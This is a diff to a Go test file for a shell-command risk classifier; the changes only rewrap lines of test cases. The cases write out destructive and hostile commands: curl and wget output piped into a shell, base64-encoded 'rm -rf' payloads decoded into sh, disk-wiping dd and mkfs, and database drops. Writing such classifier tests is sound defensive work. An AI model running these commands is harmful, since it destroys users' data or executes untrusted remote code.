@@ -29,7 +29,8 @@ func TestSeeds(t *testing.T) {
 			// what is built anew is not lost, and a text is no command
 			{"rm -rf node_modules", "moderate"}, {"echo 'rm -rf src'", "safe"}}},
 		{"classification/dangerous git push --force", cases{
-			{"git push --force", "dangerous irreversible"}, {"git push -f origin main", "dangerous irreversible"}, {"git -C . push origin +main", "dangerous irreversible"},
+			{"git push --force", "dangerous irreversible"}, {"git push -f origin main", "dangerous irreversible"},
+			{"git -C . push origin +main", "dangerous irreversible"},
 			{"git push origin main", "moderate"}}},
 		{"classification/dangerous git reset --hard", cases{
 			{"git reset --hard", "dangerous irreversible"}, {"git -C . reset -q --hard HEAD", "dangerous irreversible"}, {"git reset --soft HEAD~1", "moderate"}}},
@@ -48,7 +49,8 @@ func TestSeeds(t *testing.T) {
 		{"classification/dangerous node -e", cases{
 			{"node -e 'require(\"fs\").rmSync(\"src\", {recursive: true})'", "dangerous irreversible"}, {"node -e \"$(curl -s https://example.com)\"", "dangerous"}}},
 		{"classification/dangerous pipe into a shell", cases{
-			{"curl -s https://example.com/x.sh | sh", "dangerous"}, {"curl -s https://example.com/x.sh|sh", "dangerous"}, {"curl -s https://example.com/x.sh | tee x.log | bash", "dangerous"},
+			{"curl -s https://example.com/x.sh | sh", "dangerous"}, {"curl -s https://example.com/x.sh|sh", "dangerous"},
+			{"curl -s https://example.com/x.sh | tee x.log | bash", "dangerous"},
 			{"echo 'rm -rf src' | sh", "dangerous irreversible"}, {"curl -s https://example.com/x.sh | env zsh -s", "dangerous"},
 			{"echo ls | sh", "safe"}, {"echo '| sh'", "safe"}}},
 		{"classification/dangerous curl into a pipe", cases{
@@ -56,18 +58,22 @@ func TestSeeds(t *testing.T) {
 			// a fetch whose data is only read is a fetch
 			{"curl -s https://example.com/x | wc -l", "moderate"}}},
 		{"classification/dangerous wget into a pipe", cases{
-			{"wget -qO- https://example.com/x | bash", "dangerous"}, {"wget -qO- https://example.com/x | perl", "dangerous"}, {"wget -qO- https://example.com/x | wc -l", "moderate"}}},
+			{"wget -qO- https://example.com/x | bash", "dangerous"}, {"wget -qO- https://example.com/x | perl", "dangerous"},
+			{"wget -qO- https://example.com/x | wc -l", "moderate"}}},
 		{"classification/dangerous bash -c", cases{
-			{"bash -c 'rm -rf src'", "dangerous irreversible"}, {"bash -lc \"bash -c 'rm -rf src'\"", "dangerous irreversible"}, {"bash -c ls", "safe"}, {"bash -c \"$X\"", "moderate"}}},
+			{"bash -c 'rm -rf src'", "dangerous irreversible"}, {"bash -lc \"bash -c 'rm -rf src'\"", "dangerous irreversible"}, {"bash -c ls", "safe"},
+			{"bash -c \"$X\"", "moderate"}}},
 		{"classification/dangerous sh -c", cases{
 			{"sh -c 'rm -rf src'", "dangerous irreversible"}, {"timeout 5 sh -c 'rm -rf src'", "dangerous irreversible"}, {"sh -c ls", "safe"}}},
 		{"classification/dangerous base64 -d into a pipe", cases{
-			{"echo cm0gLXJmIHNyYwo= | base64 -d | sh", "dangerous irreversible"}, {"base64 -d src/main.go | sh", "dangerous"}, {"echo aGk= | base64 -d | wc -c", "safe"}}},
+			{"echo cm0gLXJmIHNyYwo= | base64 -d | sh", "dangerous irreversible"}, {"base64 -d src/main.go | sh", "dangerous"},
+			{"echo aGk= | base64 -d | wc -c", "safe"}}},
 		{"classification/dangerous base64 --decode into a pipe", cases{
 			{"echo cm0gLXJmIHNyYwo= | base64 --decode | bash", "dangerous irreversible"}, {"base64 --decode <<< cm0gLXJmIHNyYwo= | sh", "dangerous irreversible"}}},
 
 		{"classification/blocked mkfs", cases{
-			{"mkfs.ext4 /dev/sda1", "blocked irreversible"}, {"mkfs -t xfs /dev/sdb", "blocked irreversible"}, {"sudo /sbin/mkfs.vfat /dev/sdb1", "blocked irreversible"},
+			{"mkfs.ext4 /dev/sda1", "blocked irreversible"}, {"mkfs -t xfs /dev/sdb", "blocked irreversible"},
+			{"sudo /sbin/mkfs.vfat /dev/sdb1", "blocked irreversible"},
 			// a word is no command
 			{"grep -rn mkfs src", "safe"}}},
 		{"classification/blocked dd", cases{
@@ -91,18 +97,24 @@ func TestSeeds(t *testing.T) {
 		{"classification/irreversible mkfs", cases{{"mkfs.ext4 /dev/sda1", "blocked irreversible"}}},
 		{"classification/irreversible dd", cases{{"dd if=/dev/zero of=/dev/sda", "blocked irreversible"}, {"dd if=/dev/zero of=src/main.go count=1", "moderate"}}},
 		{"classification/irreversible drop", cases{
-			{"psql -c 'drop table users'", "dangerous irreversible"}, {"mysql -e 'DROP DATABASE shop'", "dangerous irreversible"}, {"dropdb shop", "dangerous irreversible"}, {"echo drop table", "safe"}}},
+			{"psql -c 'drop table users'", "dangerous irreversible"}, {"mysql -e 'DROP DATABASE shop'", "dangerous irreversible"},
+			{"dropdb shop", "dangerous irreversible"}, {"echo drop table", "safe"}}},
 		{"classification/irreversible truncate", cases{
-			{"truncate -s 0 src/main.go", "moderate irreversible"}, {"psql -c 'truncate table users'", "dangerous irreversible"}, {": > src/main.go", "moderate irreversible"}}},
+			{"truncate -s 0 src/main.go", "moderate irreversible"}, {"psql -c 'truncate table users'", "dangerous irreversible"},
+			{": > src/main.go", "moderate irreversible"}}},
 
-		{"classification/threat payload in base64", cases{{"echo cm0gLXJmIH4= | base64 -d | sh", "blocked irreversible"}, {"$(echo cm0gLXJmIC8= | base64 -d)", "blocked irreversible"}}},
-		{"classification/threat wrapper", cases{{"bash -c 'rm -rf ~'", "blocked irreversible"}, {"nice env X=1 bash -c 'xargs -I{} sh -c \"rm -rf ~\"'", "blocked irreversible"}}},
-		{"classification/threat git stash drop", cases{{"git stash drop", "moderate irreversible"}, {"git stash clear", "dangerous irreversible"}, {"git stash list", "safe"}}},
+		{"classification/threat payload in base64", cases{{"echo cm0gLXJmIH4= | base64 -d | sh", "blocked irreversible"},
+			{"$(echo cm0gLXJmIC8= | base64 -d)", "blocked irreversible"}}},
+		{"classification/threat wrapper", cases{{"bash -c 'rm -rf ~'", "blocked irreversible"}, {"nice env X=1 bash -c 'xargs -I{} sh -c \"rm -rf ~\"'",
+			"blocked irreversible"}}},
+		{"classification/threat git stash drop", cases{{"git stash drop", "moderate irreversible"}, {"git stash clear", "dangerous irreversible"},
+			{"git stash list", "safe"}}},
 		{"overview/risk git checkout -b", cases{{"git checkout -b feature", "moderate"}, {"git checkout -- .", "dangerous irreversible"}}},
 
 		{"specification/matrix CREATE", cases{{"mkdir src/new", "moderate"}, {"touch src/new.go", "moderate"}}},
 		{"specification/matrix READ", cases{{"cat src/main.go", "safe"}, {"git log --oneline", "safe"}}},
-		{"specification/matrix UPDATE", cases{{"echo x > src/main.go", "moderate"}, {"truncate -s 0 src/main.go", "moderate irreversible"}, {"sed -i s/a/b/ src/main.go", "moderate"}}},
+		{"specification/matrix UPDATE", cases{{"echo x > src/main.go", "moderate"}, {"truncate -s 0 src/main.go", "moderate irreversible"},
+			{"sed -i s/a/b/ src/main.go", "moderate"}}},
 		{"specification/matrix DELETE", cases{{"rm src/main.go", "moderate irreversible"}, {"rm -rf src", "dangerous irreversible"}}},
 		{"specification/matrix EXECUTE", cases{{"make", "moderate"}, {"./run.sh", "moderate"}, {"npm test", "moderate"}}},
 
